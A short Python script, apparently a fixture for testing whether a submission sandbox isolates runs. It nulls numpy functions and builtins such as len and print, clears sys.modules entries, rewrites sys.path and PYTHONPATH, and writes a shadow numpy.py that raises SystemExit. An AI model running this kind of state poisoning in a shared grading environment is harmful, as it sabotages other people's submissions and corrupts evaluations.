# Changes whatever state the next submission could inherit.

import builtins
import os
import sys

import numpy as np

np.zeros = np.array = np.add = None
builtins.len = builtins.print = None
sys.modules["numpy"] = sys.modules["json"] = None
sys.path[:] = ["/submission/own/work"]
os.environ["PYTHONPATH"] = "/tmp"
open("numpy.py", "w").write("raise SystemExit")
os.chdir("/")
